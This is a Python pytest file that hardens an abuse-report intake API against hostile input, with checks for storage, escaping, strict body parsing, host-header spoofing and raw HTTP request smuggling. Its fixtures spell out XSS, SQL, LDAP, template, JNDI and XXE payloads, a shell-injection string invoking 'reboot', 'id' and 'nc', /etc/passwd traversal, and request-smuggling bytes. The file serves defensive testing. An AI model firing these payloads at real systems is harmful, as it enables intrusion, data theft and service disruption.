# SPDX-License-Identifier: Apache-2.0
"""Texts that attack something are texts here; requests that attack something are a 4xx.

What is accepted is kept letter by letter and never run, looked up or rendered; what is refused is not
repeated. Bad fields are in ``test_api`` and ``test_partners``; here is what is not about one field.
"""

import asyncio
import contextlib
import html
import json
import re
import unicodedata
import uuid
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest
import uvicorn
from wasl_chassis.web import read_body
from wasl_intake import bootstrap, http
from wasl_intake.domain import api_key
from wasl_intake.settings import ApiKey

PEPPER = bytes(range(32))
KEY = api_key.spelt(bytes(api_key.SIZE))
HOLDER = {"x-api-key": KEY}
MARK = "mark7e1"
#: Each a text somebody might send to see what breaks.
TEXTS = {
    "script": f"<script>alert('{MARK}')</script>",
    "attribute": f"\"><img src=x onerror=alert('{MARK}')>",
    "svg": f"<svg/onload=alert('{MARK}')>",
    "template": f"{{{{7*7}}}}{{% print 1 %}}${{7*7}}<%= 7*7 %>#{{7*7}} {MARK}",
    "format": f"{{0.__class__}} %s %n {{narrative}} {MARK}",
    "SQL": f"'; DROP TABLE reports; -- {MARK}",
    "NoSQL": f'{{"$where": "sleep(9)"}} $ne $gt {MARK}',
    "LDAP": f"*)(uid=*))(|(uid=* {MARK}",
    "path": f"../../../../etc/passwd ..\\..\\ {MARK}",
    "shell": f"$(reboot) `id` | nc x 1 & {MARK}",
    "lookup": f"${{jndi:ldap://example.org/{MARK}}}",
    "XML": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; {MARK}',
    "header": f"x\nSet-Cookie: a=b\n\n<html>{MARK}",
    "formula": f'=HYPERLINK("http://example.org/{MARK}")',
    "homoglyphs": f"раураl.example.org аdmin {MARK}",
    "direction": f"\u202efdp.exe\u2066 \u200f{MARK}",
    "marks": "Z" + "\u0301" * 60 + MARK,
    "emoji": f"👩‍👩‍👧‍👦🇲🇦 {MARK}",
    "digits": "9" * 4_000 + MARK,
    "private use": f"\ue000\uffff\ufdd0 {MARK}",
}
DOCUMENT: dict[str, Any] = {
    "xarf_version": "4.2.0", "timestamp": "2025-11-30T08:00:00Z", "source_identifier": "example.org",
    "reporter": {"org": "Org", "contact": "a@example.org", "domain": "example.org"},
    "sender": {"org": "Org", "contact": "a@example.org", "domain": "example.org"},
    "category": "content", "type": "phishing",
}  # fmt: skip


def build(portal: Any) -> Any:
    hub, handlers = portal.hub, portal.handlers
    key = ApiKey(
        sha256=api_key.digest(KEY),
        channels=("partner",),
        scopes=frozenset({"report", "xarf", "batch"}),
    )
    return bootstrap.compose(
        handlers,
        handlers._pack,
        hub.metrics,
        pepper=PEPPER,
        body_limit=65_536,
        partner_limit=65_536,
        keys={"feed": key},
        clock=hub.clock,
    )


@pytest.fixture
async def web(portal: Any) -> AsyncIterator[httpx.AsyncClient]:
    app = build(portal)
    transport = httpx.ASGITransport(app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://hub.test") as client:
        yield client


def narrative(path: str, text: str) -> dict[str, Any]:
    match path:
        case "/reports":
            return {"narrative": text}
        case "/partner/xarf":
            return {**DOCUMENT, "description": text[:900], "report_id": str(uuid.uuid4())}
        case _:
            return {"reports": [{"report": {"narrative": text}}]}


@pytest.mark.parametrize("path", ["/reports", "/partner/xarf", "/partner/reports"])
async def test_a_hostile_text_is_kept_as_it_is(
    portal: Any, web: httpx.AsyncClient, path: str
) -> None:
    docs = portal.hub.store.docs
    for name, text in TEXTS.items():
        before = set(docs.get("reports", ()))
        body = narrative(path, text)
        answer = await web.post(f"/api/v1{path}", json=body, headers={"x-api-key": KEY})
        assert answer.status_code in (200, 202), (name, answer.text)
        assert MARK not in answer.text, name
        [report_id] = set(docs["reports"]) - before
        kept = (await portal.hub.content(report_id)).narrative
        sent = text[:900] if path == "/partner/xarf" else text
        assert kept.startswith(unicodedata.normalize("NFC", sent).strip()), name
    assert MARK not in portal.hub.everything()


async def test_a_hostile_text_in_the_thread_comes_back_as_data(
    portal: Any, web: httpx.AsyncClient
) -> None:
    for name, text in TEXTS.items():
        sent = await web.post("/api/v1/reports", json={"narrative": "hello"}, headers=HOLDER)
        head = {"authorization": f"Receipt {sent.json()['receipt']}"}
        sent = await web.post("/api/v1/reports/messages", json={"body": text}, headers=head)
        assert sent.status_code == 202, name
        shown = await web.get("/api/v1/reports", headers=head)
        assert shown.headers["content-type"] == "application/json"
        texts = [m["text"] for m in shown.json()["messages"]]
        assert texts == [unicodedata.normalize("NFC", text).strip()], name


def forms(app: Any) -> list[str]:
    return [
        re.sub(r"\{[^}]*\}", "x", route.path)
        for route in app.routes
        if "POST" in (getattr(route, "methods", None) or ()) and not route.path.startswith("/api/")
    ]


async def test_a_hostile_form_is_a_page_without_the_markup(portal: Any) -> None:
    app = build(portal)
    transport = httpx.ASGITransport(app, raise_app_exceptions=False)
    kind = {"content-type": "application/x-www-form-urlencoded"}
    async with httpx.AsyncClient(transport=transport, base_url="http://hub.test") as client:
        paths = forms(app)
        assert len(paths) >= 3
        for path in paths:
            for text in (TEXTS["script"], TEXTS["attribute"], TEXTS["template"]):
                for names in (("narrative", "message", "receipt"), (text,)):
                    body = urlencode(dict.fromkeys(names, text))
                    answer = await client.post(path, content=body, headers=kind)
                    assert answer.status_code < 500, path
                    assert text not in answer.text
                    assert "<script>alert" not in answer.text
                    if MARK in answer.text:
                        assert html.escape(MARK) in html.unescape(answer.text)


BODIES: list[tuple[str, bytes, str, int]] = [
    ("multipart", b'--x\r\nContent-Disposition: form-data; name="narrative"\r\n\r\nhi\r\n--x--',
     "multipart/form-data; boundary=x", 415),
    ("form", b"narrative=hello", "application/x-www-form-urlencoded", 415),
    ("XML", b"<narrative>hello</narrative>", "application/xml", 415),
    ("no type", b'{"narrative": "hello"}', "", 415),
    ("other charset", b'{"narrative": "hello"}', "application/json; charset=utf-16", 415),
    ("two types", b'{"narrative": "hello"}', "application/json, text/html", 415),
    ("byte order mark", b'\xef\xbb\xbf{"narrative": "hello"}', "application/json", 400),
    ("two documents", b'{"narrative": "hello"}{"narrative": "there"}', "application/json", 400),
    ("comment", b'{"narrative": "hello" /* x */}', "application/json", 400),
    ("huge number", b'{"narrative": 1e999999}', "application/json", 422),
    ("huge integer", b'{"narrative": ' + b"9" * 5_000 + b"}", "application/json", 400),
    ("prototype", b'{"__proto__": {"narrative": "hello"}}', "application/json", 422),
    ("overlong UTF-8", b'{"narrative": "\xc0\xafhello"}', "application/json", 400),
    ("deep", b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "application/json", 422),
]  # fmt: skip


DOORS = ["/reports", "/receipt", "/partner/xarf", "/partner/reports"]


@pytest.mark.parametrize("path", DOORS)
async def test_a_body_that_is_none(portal: Any, web: httpx.AsyncClient, path: str) -> None:
    for name, body, kind, status in BODIES:
        head = {**HOLDER, **({"content-type": kind} if kind else {})}
        answer = await web.post(f"/api/v1{path}", content=body, headers=head)
        assert answer.status_code == status, name
        assert answer.headers["content-type"] == "application/problem+json"
        assert "hello" not in answer.text, name
    assert not portal.hub.counts()


@pytest.mark.parametrize("path", DOORS)
async def test_a_body_without_end_is_cut_off(web: httpx.AsyncClient, path: str) -> None:
    read = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal read
        while True:
            read += 8_192
            yield b"x" * 8_192

    head = {**HOLDER, "content-type": "application/json"}
    answer = await web.post(f"/api/v1{path}", content=endless(), headers=head)
    assert answer.status_code == 413
    assert read <= 65_536 + 2 * 8_192


@pytest.mark.parametrize("path", DOORS)
async def test_a_body_that_never_comes_is_given_up(
    portal: Any, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    async def impatient(request: Any, limit: int, **options: Any) -> bytes:
        return await read_body(request, limit, **{**options, "seconds": 0.01})

    monkeypatch.setattr(http, "read_body", impatient)
    monkeypatch.setattr("wasl_intake.partners.read_body", impatient)
    app, sent = build(portal), []

    async def receive() -> Any:
        await asyncio.sleep(3_600)

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {
        "type": "http", "method": "POST", "path": f"/api/v1{path}", "raw_path": b"", "root_path": "",
        "scheme": "http", "query_string": b"", "http_version": "1.1", "client": None, "server": None,
        "headers": [(b"content-type", b"application/json"), (b"x-api-key", KEY.encode())],
        "asgi": {"version": "3.0"},
    }  # fmt: skip
    await app(scope, receive, send)
    assert sent[0]["status"] == 408
    assert (b"connection", b"close") in sent[0]["headers"]


OVERRIDES = ("x-http-method-override", "x-http-method", "x-method-override")
PATHS = ("x-original-url", "x-rewrite-url", "x-forwarded-prefix", "x-forwarded-path")


async def test_headers_do_not_change_method_or_path(portal: Any, web: httpx.AsyncClient) -> None:
    code = await portal.send()
    for name in OVERRIDES:
        head = {"authorization": f"Receipt {code}", name: "DELETE"}
        assert (await web.get("/api/v1/reports", headers=head)).status_code == 200
        answer = await web.get("/api/v1/reports/withdrawal", headers={**head, name: "POST"})
        assert answer.status_code == 405
    for name in PATHS:
        answer = await web.get("/api/v1/nothing", headers={name: "/api/v1/openapi.json"})
        assert answer.status_code == 404
    shown = await web.get("/api/v1/reports", headers={"authorization": f"Receipt {code}"})
    assert shown.json()["can_withdraw"] is True


HOSTS = (
    "evil.test",
    "evil.test:99999",
    "hub.test@evil.test",
    "evil.test/%2e%2e",
    "[::1]",
    "",
    "a b",
)


async def test_what_a_request_says_of_our_address_is_never_repeated(
    web: httpx.AsyncClient,
) -> None:
    for host in HOSTS:
        said = {
            "host": host, "x-forwarded-host": "evil.test", "forwarded": "host=evil.test;proto=http",
            "x-forwarded-for": "203.0.113.9", "x-forwarded-proto": "http", "x-host": "evil.test",
            "origin": "http://evil.test", "referer": "http://evil.test/",
        }  # fmt: skip
        for method, path in (
            ("GET", "/"), ("GET", "/fr/"), ("GET", "/fr"), ("GET", "/fr?next=1"), ("GET", "/fr/x"),
            ("POST", "/fr/"), ("GET", "/api/v1/reports"), ("POST", "/api/v1/reports"),
            ("GET", "/api/v1/reports/"), ("GET", "/api/v1/openapi.json"),
        ):  # fmt: skip
            answer = await web.request(method, path, headers=said)
            assert answer.status_code < 500
            whole = f"{answer.headers} {answer.text}"
            for word in ("evil.test", "203.0.113.9", "[::1]"):
                assert word not in whole, (host, method, path)
            assert re.match(r"/(?!/)", answer.headers.get("location", "/")), (host, path)


LANGUAGES = (
    "x\r\nSet-Cookie: a=b", "../../etc/passwd", "ar" * 5_000, "*", ";q=1", "zz-ZZ", "<script>", "%0d%0a",
    "ar;q=abc,fr;q=-1", "\u0661", "__class__", "fr,,,,,,",
)  # fmt: skip


async def test_a_language_can_only_be_one_of_ours(portal: Any, web: httpx.AsyncClient) -> None:
    code = await portal.send()
    for language in LANGUAGES:
        head = {b"accept-language": language.encode()}
        answer = await web.get("/", headers=head)
        assert answer.status_code == 303
        assert answer.headers["location"] in ("/ar/", "/fr/", "/en/"), language
        assert "a=b" not in answer.headers.get("set-cookie", "")
        head[b"authorization"] = f"Receipt {code}".encode()
        answer = await web.get("/api/v1/reports", headers=head)
        assert answer.json()["language"] in ("ar", "fr", "en"), language


# -- on the wire -----------------------------------------------------------------------------------


@contextlib.asynccontextmanager
async def served(app: Any) -> AsyncIterator[int]:
    """The application behind the server and the options a service has."""
    server = uvicorn.Server(
        uvicorn.Config(
            app, port=0, loop="none", http="httptools", ws="none", lifespan="off", access_log=False,
            log_config=None, server_header=False, proxy_headers=False,
        )
    )  # fmt: skip
    task = asyncio.create_task(server.serve())
    while not server.started:
        await asyncio.sleep(0.01)
    try:
        yield server.servers[0].sockets[0].getsockname()[1]
    finally:
        server.should_exit = True
        await task


async def said(port: int, request: bytes) -> tuple[int, bytes]:
    """Status (0: none) and whole answer of one raw request."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(request)
    async with asyncio.timeout(10):
        answer = await reader.read()
    writer.close()
    return (int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else 0), answer


_HEAD = b"Host: hub.test\r\nConnection: close\r\n"
_JSON = b"Content-Type: application/json\r\n"
BODY = b'{"narrative": "hello"}'
_LENGTH = b"Content-Length: %d\r\n" % len(BODY)
RAW: list[tuple[str, bytes, set[int]]] = [
    ("absolute form", b"GET http://evil.test/api/v1/reports HTTP/1.1\r\n" + _HEAD + b"\r\n", {401}),
    ("absolute form elsewhere", b"GET http://evil.test/x HTTP/1.1\r\n" + _HEAD + b"\r\n", {404}),
    ("authority form", b"CONNECT evil.test:443 HTTP/1.1\r\n" + _HEAD + b"\r\n", {400, 404, 405}),
    ("asterisk form", b"OPTIONS * HTTP/1.1\r\n" + _HEAD + b"\r\n", {400, 404, 405}),
    ("bad percent", b"GET /fr/%zz%ff%c0%ae HTTP/1.1\r\n" + _HEAD + b"\r\n", {400, 404}),
    ("encoded dots", b"GET /fr/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\n" + _HEAD + b"\r\n", {400, 404}),
    ("encoded break", b"GET /fr/%0d%0aSet-Cookie:a=b HTTP/1.1\r\n" + _HEAD + b"\r\n", {404}),
    ("encoded NUL", b"GET /static/%00.css HTTP/1.1\r\n" + _HEAD + b"\r\n", {404}),
    ("two slashes", b"GET //evil.test/%2f.. HTTP/1.1\r\n" + _HEAD + b"\r\n", {404}),
    ("no version", b"GET /fr/\r\n\r\n", {0, 200, 400}),
    ("no method", b" /fr/ HTTP/1.1\r\n" + _HEAD + b"\r\n", {0, 400}),
    ("method of strangers", b"BREW /fr/ HTTP/1.1\r\n" + _HEAD + b"\r\n", {0, 400, 405}),
    ("TRACE", b"TRACE /fr/ HTTP/1.1\r\n" + _HEAD + b"X-Secret: mark7e1\r\n\r\n", {400, 405}),
    ("two lengths", b"POST /api/v1/reports HTTP/1.1\r\n" + _HEAD + _JSON
     + b"Content-Length: 5\r\n" + _LENGTH + b"\r\n" + BODY, {400}),
    ("length and chunks", b"POST /api/v1/reports HTTP/1.1\r\n" + _HEAD + _JSON + _LENGTH
     + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n", {400}),
    ("negative length", b"POST /api/v1/reports HTTP/1.1\r\n" + _HEAD + _JSON
     + b"Content-Length: -1\r\n\r\n" + BODY, {400}),
    ("huge length", b"POST /api/v1/reports HTTP/1.1\r\n" + _HEAD + _JSON
     + b"Content-Length: 99999999999\r\n\r\n" + BODY, {413}),
    ("bad chunk", b"POST /api/v1/reports HTTP/1.1\r\n" + _HEAD + _JSON
     + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n" + BODY, {400}),
    ("folded header", b"GET /fr/ HTTP/1.1\r\n" + _HEAD + b"X: a\r\n b\r\n\r\n", {0, 200, 400}),
    ("NUL in a header", b"GET /fr/ HTTP/1.1\r\n" + _HEAD + b"X: a\0b\r\n\r\n", {400}),
    ("chunked and large", b"POST /api/v1/reports HTTP/1.1\r\n" + _HEAD + _JSON
     + b"Transfer-Encoding: chunked\r\n\r\n" + (b"4000\r\n" + b"x" * 0x4000 + b"\r\n") * 5, {413}),
]  # fmt: skip


async def test_requests_no_client_library_sends(portal: Any) -> None:
    calm = b"GET /api/v1/openapi.json HTTP/1.1\r\n" + _HEAD + b"\r\n"
    async with served(build(portal)) as port:
        for name, request, statuses in RAW:
            status, answer = await said(port, request)
            assert status in statuses, (name, answer[:300])
            assert not re.search(rb"(?im)^(server|x-powered-by|set-cookie: a):?", answer), name
            for word in (b"evil.test", b"mark7e1", b"Traceback", b"uvicorn"):
                assert word not in answer, name
        assert (await said(port, calm))[0] == 200
    assert not portal.hub.counts()


async def test_a_report_sent_byte_by_byte_is_a_report(portal: Any) -> None:
    async with served(build(portal)) as port:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        whole = b"POST /api/v1/reports HTTP/1.1\r\n" + _HEAD + _JSON + _LENGTH + b"\r\n" + BODY
        for byte in whole:
            writer.write(bytes([byte]))
            await writer.drain()
        assert (await reader.read()).startswith(b"HTTP/1.1 202")
        writer.close()
    assert portal.hub.counts()["reports"] == 1
    assert json.loads(BODY)["narrative"] not in portal.hub.everything()
